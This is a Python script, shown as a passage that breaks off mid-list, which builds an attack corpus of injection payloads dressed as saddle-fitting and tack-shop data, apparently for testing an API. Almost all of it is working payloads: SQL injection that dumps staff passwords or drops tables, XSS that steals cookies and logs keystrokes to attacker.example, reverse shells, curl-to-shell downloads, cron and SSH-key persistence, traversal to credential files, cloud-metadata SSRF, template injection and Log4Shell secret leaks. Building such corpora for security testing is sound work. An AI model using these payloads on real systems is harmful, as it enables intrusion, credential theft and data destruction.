#!/usr/bin/env python3
"""Attack corpus for the saddlery theme (saddle fitting, tack shop API).

Standard library only. Almost everything is a hand-written literal; the only
computed values join a hand-written saddlery prefix to a hand-written payload
or apply one encoding to a hand-written payload. Deterministic (seed 19402).
"""
import json
import os
import random
import urllib.parse

SEED = 19402
PREFIX = "hagc"

# (category, class, value)
L = []


def add(cat, rows):
    for cls, val in rows:
        L.append((cat, cls, val))


# ---------------------------------------------------------------- sqli
add("sqli", [
    ("note-union-select", "Tree MW, gullet 11cm' UNION SELECT username, password_hash FROM staff--"),
    ("note-union-select", "Stübben 17.5' union all select null,card_number,null from payments-- -"),
    ("sku-union-select", "BR-2041' UNION SELECT table_name,NULL FROM information_schema.tables#"),
    ("search-union-select", "loose ring snaffle%' UNION SELECT email,phone,NULL FROM customers WHERE '%'='"),
    ("number-union-select", "2291 UNION SELECT 1,@@version,3,4"),
    ("plain-boolean", "' OR '1'='1"),
    ("plain-boolean", "' or 1=1-- "),
    ("note-boolean", "Replace keepers on bridle (2x)' OR 'x'='x"),
    ("name-boolean", "O'Brien' OR 2>1 -- "),
    ("number-boolean", "433 OR 1=1"),
    ("search-boolean", "eggbutt' AND 1=0 UNION SELECT NULL, CONCAT(login,0x3a,pass) FROM users-- -"),
    ("note-stacked-drop", "Re-flock both panels'; DROP TABLE repair_tickets;--"),
    ("note-stacked-update", "Consignor: H. Fitzgerald'; UPDATE consignments SET payout=99999 WHERE id=433;--"),
    ("mssql-stacked-xp_cmdshell", "SO-2209'; EXEC master..xp_cmdshell 'ping 203.0.113.7';--"),
    ("mssql-time-waitfor", "Rosie'; WAITFOR DELAY '0:0:7'--"),
    ("mssql-time-waitfor", "1;WAITFOR DELAY '00:00:05'--"),
    ("mysql-time-sleep", "gullet 11cm' AND SLEEP(6)-- -"),
    ("mysql-time-sleep", "Dolly' AND (SELECT 4411 FROM (SELECT(SLEEP(5)))a)-- x"),
    ("mysql-time-benchmark", "havana' AND BENCHMARK(9000000,MD5('tack'))#"),
    ("pg-time-sleep", "BR-2042'; SELECT pg_sleep(8)--"),
    ("pg-time-sleep", "17.5' || (SELECT 1 FROM pg_sleep(5)) || '"),
    ("oracle-time", "Albion' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',6)--"),
    ("sqlite-time", "pelham' AND 1=randomblob(500000000)--"),
    ("mysql-error-extractvalue", "Comet' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT password FROM staff LIMIT 1)))-- -"),
    ("mysql-error-updatexml", "fulmer' AND updatexml(null,concat(0x3a,user()),null)-- -"),
    ("mssql-error-convert", "Juniper' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"),
    ("pg-error-cast", "W' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)--"),
    ("oracle-error-ctxsys", "MW' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("oracle-union", "cob' UNION SELECT username, password FROM dba_users--"),
    ("sqlite-union", "bit 5\"' UNION SELECT name, sql FROM sqlite_master--"),
    ("order-by-injection", "price, (CASE WHEN (SELECT substr(password,1,1) FROM staff LIMIT 1)='a' THEN price ELSE name END)"),
    ("order-by-injection", "date desc, IF(1=1,SLEEP(4),0)"),
    ("order-by-column-probe", "name ASC, (SELECT 1 FROM dual WHERE 1=1 AND sleep(3))"),
    ("limit-injection", "10 PROCEDURE ANALYSE(EXTRACTVALUE(5151,CONCAT(0x5c,version())),1)"),
    ("comment-as-space", "'/**/UNION/**/SELECT/**/login,pass/**/FROM/**/staff#"),
    ("comment-as-space", "Bramble'/**/oR/**/1/**/=/**/1/**/--/**/-"),
    ("mysql-versioned-comment", "Passier' /*!50000UNION*/ /*!50000SELECT*/ 1,user(),3-- -"),
    ("case-mixing", "saddle soap' UnIoN SeLeCt NuLl,cOnCaT(uSeR(),0x40,dAtAbAsE())-- -"),
    ("newline-as-space", "17\"'\nUNION\nSELECT\nemail,password\nFROM\ncustomers--"),
    ("tab-as-space", "girth 50'\tOR\t1=1\t--\t"),
    ("paren-no-space", "numnah'or(1)=(1)#"),
    ("hex-string", "' UNION SELECT 1,load_file(0x2f6574632f706173737764)-- -"),
    ("char-function", "bridle' AND ascii(substring((select user()),1,1))>64-- -"),
    ("blind-substring", "Rascal' AND SUBSTRING((SELECT password FROM staff WHERE login='admin'),1,1)='$'--"),
    ("blind-length", "eggbutt' AND (SELECT LENGTH(database()))>5 AND '1'='1"),
    ("mysql-outfile", "consign' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/img/x.php'-- -"),
    ("mysql-load-file", "' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -"),
    ("mssql-oob-dns", "BR-2041'; EXEC master..xp_dirtree '\\\\sql.attacker.example\\x';--"),
    ("oracle-oob-http", "MW' AND 1=UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual))--"),
    ("pg-copy-program", "R-2291'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p | sh';--"),
    ("json-field-number", "{\"appointment_id\": \"88 OR 1=1\"}"),
    ("like-wildcard-escape", "bit%' OR name LIKE '%"),
    ("insert-values", "Great saddle!', (SELECT password FROM staff LIMIT 1))-- -"),
    ("update-set", "brown', is_admin=1 WHERE login='fitter2'-- -"),
    ("double-quote-context", "Juniper\" OR \"a\"=\"a"),
    ("backslash-escape", "Lance\\' OR 1=1-- -"),
    ("mysql-having", "1' GROUP BY sku HAVING 1=1--"),
    ("pg-dollar-quote", "tack'; SELECT $$x$$ || (SELECT current_user) --"),
    ("mssql-openrowset", "'; SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.9;uid=sa;pwd=x','select 1')--"),
    ("sqlite-attach", "'; ATTACH DATABASE '/var/www/html/s.php' AS s; CREATE TABLE s.t (d text); INSERT INTO s.t VALUES ('<?php system($_GET[1]);?>');--"),
    ("json-operator-bypass", "cob' OR JSON_EXTRACT('{\"a\":1}','$.a')=1-- -"),
    ("scientific-notation", "1e0UNION SELECT password FROM staff"),
    ("boolean-in-subquery", "Hollybank' AND 1 IN (SELECT 1 FROM staff WHERE role='owner')-- -"),
    ("pg-current-setting", "x' UNION SELECT current_setting('data_directory'),NULL--"),
    ("mysql-information-schema", "17' UNION SELECT GROUP_CONCAT(column_name),2 FROM information_schema.columns WHERE table_name='staff'-- -"),
    ("tracking-number", "1Z999AA10123456784' AND 7=7 UNION SELECT address FROM shipments-- -"),
    ("csv-cell-sql", "BR-2043,\"Bridle' ; DELETE FROM inventory WHERE '1'='1\",cob,89.00"),
    ("between-bypass", "' OR 5 BETWEEN 1 AND 9-- -"),
])

# ---------------------------------------------------------------- xss
add("xss", [
    ("plain-script", "<script>alert(document.domain)</script>"),
    ("note-script", "Custom bridle, crystal browband <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("name-img-onerror", "Siobhán <img src=x onerror=alert(1)>"),
    ("review-svg-onload", "Lovely saddle ★★★★★ <svg onload=alert`1`>"),
    ("listing-iframe-js", "Albion K2 17.5 MW <iframe src=\"javascript:alert(origin)\"></iframe>"),
    ("attr-breakout", "\" onmouseover=\"alert(1)\" x=\""),
    ("attr-breakout", "havana' autofocus onfocus='alert(document.cookie)"),
    ("attr-breakout-gt", "Rosie\"><svg/onload=confirm(1)>"),
    ("textarea-breakout", "Flap curling</textarea><script>alert(1)</script>"),
    ("title-breakout", "</title><img src=1 onerror=alert(2)>"),
    ("script-string-breakout", "';alert(String.fromCharCode(88,83,83));//"),
    ("script-string-breakout", "\";document.location='https://attacker.example/?c='+document.cookie;//"),
    ("script-tag-breakout", "</script><script>alert(1)</script>"),
    ("template-literal-breakout", "${alert(document.domain)}`;//"),
    ("href-javascript", "javascript:alert(document.cookie)"),
    ("href-javascript-entity", "jav&#x61;script&colon;alert(1)"),
    ("href-javascript-tab", "java\tscript:alert(1)"),
    ("href-javascript-case", "JaVaScRiPt:fetch('//attacker.example/'+localStorage.token)"),
    ("data-uri", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("markdown-link-js", "See fitting photos [here](javascript:alert(document.cookie))"),
    ("markdown-img-onerror", "![saddle](x\" onerror=\"alert(1))"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>Tree width</details>"),
    ("body-onload", "<body onload=alert('saddle')>"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>SALE on bits</marquee>"),
    ("object-data", "<object data=\"javascript:alert(1)\"></object>"),
    ("embed-src", "<embed src=\"data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>\">"),
    ("form-action", "<form action=javascript:alert(1)><button>Book fitting</button></form>"),
    ("button-formaction", "<button formaction=\"javascript:alert(1)\">Pay deposit</button>"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("base-href-hijack", "<base href=\"https://attacker.example/\">"),
    ("iframe-onload", "<iframe onload=alert(document.domain)></iframe>"),
    ("style-expression-ie", "<div style=\"width:expression(alert(1))\">Gullet</div>"),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-set-href", "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>click</text></a></svg>"),
    ("math-href", "<math><mtext><a href=javascript:alert(1)>tack</a></mtext></math>"),
    ("mutation-noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("case-mixing", "<ScRiPt>alert(1)</sCrIpT>"),
    ("nested-strip-bypass", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("no-quotes-slash", "<img/src/onerror=alert(1)>"),
    ("entity-encoded-handler", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("hex-entity-handler", "<a href=\"&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)\">receipt</a>"),
    ("unicode-escape-js", "<script>\\u0061lert(1)</script>"),
    ("js-eval-atob", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("top-bracket", "<svg onload=top['al'+'ert'](1)>"),
    ("constructor-chain", "<img src=x onerror=[].constructor.constructor('alert(1)')()>"),
    ("angular-csti", "{{constructor.constructor('alert(1)')()}}"),
    ("angular-csti", "Nameplate: {{$on.constructor('alert(document.cookie)')()}}"),
    ("vue-csti", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("dom-hash-sink", "#<img src=x onerror=alert(1)>"),
    ("srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"),
    ("xml-namespace", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>"),
    ("pointer-event", "<div onpointerover=\"alert(1)\" style=\"position:fixed;inset:0\">x</div>"),
    ("animation-event", "<style>@keyframes k{}</style><p style=\"animation-name:k\" onanimationstart=alert(1)>"),
    ("select-autofocus", "<select autofocus onfocus=alert(1)><option>MW</option></select>"),
    ("fullwidth-brackets-nfkc-normalized", "＜script＞alert(1)＜/script＞"),
    ("formfeed-separator", "<img\x0csrc=x\x0conerror=alert(1)>"),
    ("keylogger", "<img src=x onerror=\"document.onkeypress=function(e){new Image().src='//attacker.example/k?'+e.key}\">"),
    ("json-value-html", "{\"comment\":\"<img src=1 onerror=alert(1)>\"}"),
    ("csv-cell-html", "BR-2050,<svg onload=alert(1)>,full,95.00"),
    ("email-display-name", "\"<script>alert(1)</script>\"@example.com"),
    ("filename-html", "saddle_<img src=x onerror=alert(1)>.jpg"),
    ("url-param-js", "https://hollybank.example/fit?next=javascript:alert(1)"),
    ("svg-script-cdata", "<svg><script><![CDATA[alert(1)]]></script></svg>"),
])

# ---------------------------------------------------------------- cmdi
add("cmdi", [
    ("plain-semicolon", "; cat /etc/passwd"),
    ("plain-pipe", "| id"),
    ("filename-semicolon", "albion_k2_front.jpg; curl http://attacker.example/s.sh | sh"),
    ("filename-and", "IMG_4402.jpg && wget -qO- http://203.0.113.15/x | bash"),
    ("filename-or", "swatch.png || nc 203.0.113.15 4444 -e /bin/sh"),
    ("filename-backtick", "label_`id`.pdf"),
    ("filename-dollar-paren", "inventory_$(whoami).csv"),
    ("tracking-subshell", "1Z999AA1$(curl -s attacker.example/t|sh)"),
    ("hostname-ping", "203.0.113.1; id"),
    ("hostname-ping", "shop-printer.local & whoami"),
    ("newline-separator", "BR-2041\ncat /etc/shadow"),
    ("newline-encoded", "BR-2041%0aid"),
    ("ifs-space", "x;cat${IFS}/etc/passwd"),
    ("ifs-space", "tack;{cat,/etc/passwd}"),
    ("brace-expansion", ";{wget,http://attacker.example/b,-O,/tmp/b};sh${IFS}/tmp/b"),
    ("quote-split", "a;w'h'o\"am\"i"),
    ("backslash-split", "x;c\\at /e\\tc/pa\\sswd"),
    ("variable-obfuscation", "x; a=c;b=at;$a$b /etc/passwd"),
    ("glob-path", "; /???/c?t /???/p??s??"),
    ("hex-echo", "; $(printf '\\x69\\x64')"),
    ("base64-pipe", "; echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94fHNo | base64 -d | sh"),
    ("reverse-shell-bash", "Rosie; bash -i >& /dev/tcp/203.0.113.20/443 0>&1"),
    ("reverse-shell-python", "x; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.4\",9001));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'"),
    ("reverse-shell-mkfifo", "; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.4 4242 >/tmp/f"),
    ("sleep-timing", "Dolly; sleep 10 #"),
    ("sleep-timing", "`sleep 7`"),
    ("dns-exfil", "$(nslookup $(whoami).x.attacker.example)"),
    ("write-webshell", "; echo '<?php system($_GET[0]);?>' > /var/www/html/uploads/s.php"),
    ("cron-persist", "; (crontab -l; echo '* * * * * curl attacker.example/c|sh') | crontab -"),
    ("ssh-key-plant", "; echo ssh-ed25519 AAAAC3NzaFAKEKEYFAKEKEY attacker >> ~/.ssh/authorized_keys"),
    ("argument-injection-curl", "-o /var/www/html/x.php http://attacker.example/x.txt"),
    ("argument-injection-curl", "--config /etc/shadow"),
    ("argument-injection-wget", "--post-file=/etc/passwd http://attacker.example/"),
    ("argument-injection-tar", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("argument-injection-find", "consignment -exec /bin/sh -c 'id' ;"),
    ("argument-injection-rsync", "-e 'sh -c id' backup@localhost:/x"),
    ("argument-injection-ssh", "-oProxyCommand=curl${IFS}attacker.example|sh x"),
    ("argument-injection-git", "--upload-pack=touch /tmp/pwned"),
    ("argument-injection-zip", "photos.zip -T -TT 'sh -c id'"),
    ("argument-injection-sendmail", "shop@example.com -X/var/www/html/log.php -OQueueDirectory=/tmp"),
    ("argument-injection-convert", "label.png -write /var/www/html/shell.php"),
    ("imagemagick-msl", "msl:/tmp/upload.msl"),
    ("sed-script-e-command", "s/Albion/ALBION/;1e id"),
    ("windows-ampersand", "receipt.pdf & type C:\\Windows\\win.ini"),
    ("windows-pipe", "label | net user"),
    ("windows-caret-obfuscation", "x & w^h^o^a^m^i"),
    ("windows-env-substring", "x & %COMSPEC:~-7,3% /c whoami"),
    ("windows-certutil", "& certutil -urlcache -split -f http://attacker.example/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe"),
    ("windows-bitsadmin", "&& bitsadmin /transfer j http://attacker.example/a.exe C:\\Users\\Public\\a.exe"),
    ("powershell-iex", "; powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\""),
    ("powershell-encoded", "| powershell -enc SQBFAFgAIAAoAGkAdwByACAAYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQApAA=="),
    ("powershell-subexpression", "$(Invoke-WebRequest -Uri http://attacker.example/p -Method Post -Body (Get-Content C:\\inetpub\\web.config))"),
    ("windows-rundll", "& rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)"),
    ("windows-mshta", "& mshta http://attacker.example/p.hta"),
    ("perl-open-pipe", "|/usr/bin/id|"),
    ("env-shellshock", "() { :;}; /bin/bash -c 'curl attacker.example/ss|sh'"),
    ("process-substitution", "cat <(id)"),
    ("here-string", "x; bash <<< 'id'"),
    ("awk-system", "; awk 'BEGIN{system(\"id\")}'"),
    ("xargs", "; echo id | xargs sh -c"),
])

# ---------------------------------------------------------------- traversal
add("traversal", [
    ("plain-dotdot", "../../../../etc/passwd"),
    ("photo-dotdot", "photos/saddles/../../../../../etc/shadow"),
    ("import-dotdot", "exports/consignment_q1.xlsx/../../../../../root/.ssh/id_rsa"),
    ("label-dotdot", "labels/98231/../../../../proc/self/environ"),
    ("absolute-path", "/etc/passwd"),
    ("absolute-path", "/proc/self/cmdline"),
    ("app-config", "../../config/database.yml"),
    ("app-config", "../../../.env"),
    ("app-config", "../.git/config"),
    ("url-encoded", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("url-encoded-dots", "%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
    ("double-url", "..%252f..%252f..%252fetc%252fpasswd"),
    ("double-url", "%252e%252e%252f%252e%252e%252fapp%252f.env"),
    ("overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("overlong-utf8-3byte", "..%e0%80%af..%e0%80%afetc%e0%80%afpasswd"),
    ("percent-u", "%u002e%u002e%u002f%u002e%u002e%u002fwindows/win.ini"),
    ("percent-u", "%uff0e%uff0e/%uff0e%uff0e/etc/passwd"),
    ("fullwidth", "．．／．．／．．／etc／passwd"),
    ("strip-bypass", "....//....//....//etc/passwd"),
    ("strip-bypass", "..././..././..././etc/passwd"),
    ("backslash-windows", "..\\..\\..\\..\\Windows\\win.ini"),
    ("backslash-windows", "photos\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("windows-absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("windows-unc", "\\\\198.51.100.9\\share\\x.jpg"),
    ("windows-mixed", "..\\/..\\/..\\/boot.ini"),
    ("windows-encoded-backslash", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("null-byte", "../../../../etc/passwd%00.jpg"),
    ("null-byte", "albion_k2_front.jpg/../../../../etc/passwd\x00.png"),
    ("file-scheme", "file:///etc/passwd"),
    ("php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("php-wrapper-zip", "zip://uploads/swatch.jpg%23shell.php"),
    ("php-wrapper-phar", "phar://uploads/IMG_4402.jpg/x"),
    ("php-data-wrapper", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg=="),
    ("php-expect", "expect://id"),
    ("java-war", "jar:file:///opt/app/app.war!/WEB-INF/web.xml"),
    ("web-inf", "../../WEB-INF/web.xml"),
    ("web-inf-semicolon", "..;/..;/WEB-INF/classes/application.properties"),
    ("dotdot-semicolon", "/static/..;/admin/export"),
    ("proc-fd", "/proc/self/fd/3"),
    ("log-poison-target", "../../../../var/log/nginx/access.log"),
    ("k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("cloud-creds", "../../../../home/app/.aws/credentials"),
    ("zip-slip-name", "../../../../../var/www/html/saddle.php"),
    ("dot-segment-mixed", "./../.././../etc/./passwd"),
    ("long-dotdot", "../../../../../../../../../../../../../../etc/passwd"),
])

# ---------------------------------------------------------------- ssrf
add("ssrf", [
    ("plain-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("webhook-metadata", "https://hooks.example.com/saddlery/orders@169.254.169.254/latest/user-data"),
    ("gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("azure-metadata", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("ecs-task-metadata", "http://169.254.170.2/v2/credentials/"),
    ("loopback", "http://127.0.0.1:8080/admin"),
    ("loopback-localhost", "http://localhost:6379/"),
    ("loopback-ipv6", "http://[::1]:9200/_cat/indices"),
    ("ipv4-mapped-ipv6", "http://[::ffff:127.0.0.1]/server-status"),
    ("ipv4-mapped-ipv6-hex", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("decimal-ip", "http://2852039166/latest/meta-data/"),
    ("decimal-ip", "http://2130706433:8500/v1/agent/self"),
    ("octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("octal-ip", "http://0177.0.0.1/"),
    ("hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("hex-ip", "http://0x7f.0x0.0x0.0x1:2375/containers/json"),
    ("short-ip", "http://127.1/"),
    ("zero-ip", "http://0.0.0.0:8080/actuator/env"),
    ("mixed-notation-ip", "http://169.0xfe.43518/latest/meta-data/"),
    ("userinfo-confusion", "https://cdn.example.com@127.0.0.1/admin"),
    ("fragment-confusion", "http://127.0.0.1:8080#@cdn.example.com/logo.svg"),
    ("backslash-confusion", "http://attacker.example\\@cdn.example.com/"),
    ("dns-rebinding", "http://169.254.169.254.nip.io/latest/meta-data/"),
    ("attacker-redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("rfc1918", "http://10.0.0.5:8080/manage/shutdown"),
    ("rfc1918", "http://192.168.1.1/cgi-bin/luci"),
    ("rfc1918", "http://172.16.4.20:9000/minio/admin/v3/info"),
    ("internal-service-name", "http://inventory-db.internal:5984/_all_dbs"),
    ("internal-service-name", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("gopher-redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20%2Fvar%2Fwww%2Fhtml%0D%0ASET%20x%20%22%3C%3Fphp%20system(%24_GET%5B0%5D)%3B%3F%3E%22%0D%0ASAVE%0D%0A"),
    ("gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cshop%40example.com%3E%0D%0A"),
    ("dict-scheme", "dict://127.0.0.1:11211/stats"),
    ("file-scheme", "file:///proc/self/environ"),
    ("ldap-scheme", "ldap://127.0.0.1:389/dc=example"),
    ("ftp-internal", "ftp://10.0.0.8/backups/db.sql"),
    ("tftp", "tftp://198.51.100.3/x"),
    ("jar-scheme", "jar:http://attacker.example/x.jar!/"),
    ("netdoc-scheme", "netdoc:///etc/passwd"),
    ("encoded-host", "http://%31%32%37%2e%30%2e%30%2e%31/admin"),
    ("fullwidth-host", "http://１２７．０．０．１/admin"),
    ("enclosed-alnum-host", "http://①②⑦.⓪.⓪.①/"),
    ("docker-api", "http://172.17.0.1:2375/images/json"),
    ("consul", "http://localhost:8500/v1/kv/?recurse"),
])

# ---------------------------------------------------------------- code
add("code", [
    ("jinja2-ssti", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("jinja2-ssti", "Your fitting on {{ self.__init__.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("jinja2-ssti-attr", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("jinja2-config", "Hi {{ config.items() }}"),
    ("twig-ssti", "{{ ['id']|filter('system') }}"),
    ("twig-ssti", "Nameplate: {{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("freemarker-ssti", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("freemarker-ssti", "${\"freemarker.template.utility.Execute\"?new()(\"curl attacker.example\")}"),
    ("velocity-ssti", "#set($e=\"\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")"),
    ("thymeleaf-ssti", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("erb-ssti", "<%= `id` %>"),
    ("erb-ssti", "Dear <%= File.read('/etc/passwd') %>"),
    ("handlebars-ssti", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("nunjucks-ssti", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("ejs-ssti", "<%= process.mainModule.require('child_process').execSync('id') %>"),
    ("pug-ssti", "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}"),
    ("mako-ssti", "${__import__('os').popen('id').read()}"),
    ("mako-ssti", "<% import os %>${os.system('id')}"),
    ("tornado-ssti", "{% import os %}{{ os.popen('id').read() }}"),
    ("django-ssti-info", "{{ settings.SECRET_KEY }}"),
    ("smarty-ssti", "{system('id')}"),
    ("smarty-ssti", "{php}echo `id`;{/php}"),
    ("go-template-data-dump", "{{ printf \"%#v\" . }}"),
    ("razor-ssti", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("jinjava-ssti", "{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}}"),
    ("spring-el", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("spring-el", "#{T(java.lang.System).getenv()}"),
    ("spring-el-new", "#{new java.lang.ProcessBuilder({'sh','-c','id'}).start()}"),
    ("java-el", "${pageContext.request.getSession().setAttribute(\"a\",\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\"))}"),
    ("java-el-jakarta", "${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('id')}"),
    ("ognl", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("ognl-struts", "%{#context['xwork.MethodAccessor.denyMethodExecution']=false,@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream())}"),
    ("mvel", "@{java.lang.Runtime.getRuntime().exec('id')}"),
    ("log4shell", "${jndi:ldap://attacker.example:1389/a}"),
    ("log4shell-note", "Saddle ready for collection ${jndi:rmi://198.51.100.7:1099/Exploit}"),
    ("log4shell-nested-lookup", "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}dap://attacker.example/x}"),
    ("log4shell-default-lookup", "${${::-j}${::-n}${::-d}${::-i}:${::-d}${::-n}${::-s}://${env:USER}.attacker.example}"),
    ("log4shell-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.logs.attacker.example}"),
    ("log4shell-ua", "Mozilla/5.0 ${jndi:ldaps://attacker.example/o}"),
    ("python-eval", "__import__('os').system('id')"),
    ("python-eval", "17.5 + __import__('subprocess').check_output(['id']).__len__()"),
    ("python-eval-builtins", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id')"),
    ("php-eval", "phpinfo();"),
    ("php-eval", "system($_GET['c']);"),
    ("php-eval-variable-func", "${@eval($_POST[x])}"),
    ("node-eval", "require('child_process').exec('curl attacker.example/n|sh')"),
    ("node-eval", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("ruby-eval", "#{`id`}"),
    ("ruby-eval", "Kernel.exec('id')"),
    ("proto-pollution-json", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("proto-pollution-json", "{\"notes\":\"re-flock\",\"constructor\":{\"prototype\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}}"),
    ("proto-pollution-query", "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');x"),
    ("proto-pollution-query", "constructor[prototype][isAdmin]=true"),
    ("csv-formula", "=cmd|' /C calc'!A0"),
    ("csv-formula", "=HYPERLINK(\"https://attacker.example/?leak=\"&A1&B1,\"Saddle photos\")"),
    ("csv-formula-plus", "+cmd|'/c powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-formula-at", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("csv-formula-webservice", "=WEBSERVICE(\"http://attacker.example/x?\"&A2)"),
    ("csv-dde", "-2+3+cmd|' /C notepad'!'A1'"),
    ("xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE inv [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><inventory><sku>&xxe;</sku></inventory>"),
    ("xxe-ssrf", "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><order><note>&x;</note></order>"),
    ("xxe-parameter-oob", "<!DOCTYPE d [<!ENTITY % p SYSTEM \"http://attacker.example/e.dtd\"> %p;]><d/>"),
    ("xinclude", "<saddle xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></saddle>"),
